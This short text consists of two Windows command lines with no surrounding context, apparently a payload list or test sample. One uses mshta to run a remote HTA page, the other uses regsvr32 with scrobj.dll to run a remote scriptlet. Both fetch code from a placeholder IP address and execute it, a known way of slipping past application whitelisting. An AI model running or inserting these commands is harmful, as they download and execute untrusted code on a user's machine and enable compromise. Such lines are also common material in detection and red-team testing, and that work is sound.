mshta http://203.0.113.12/page.hta
regsvr32 /s /n /u /i:http://203.0.113.12/file.sct scrobj.dll
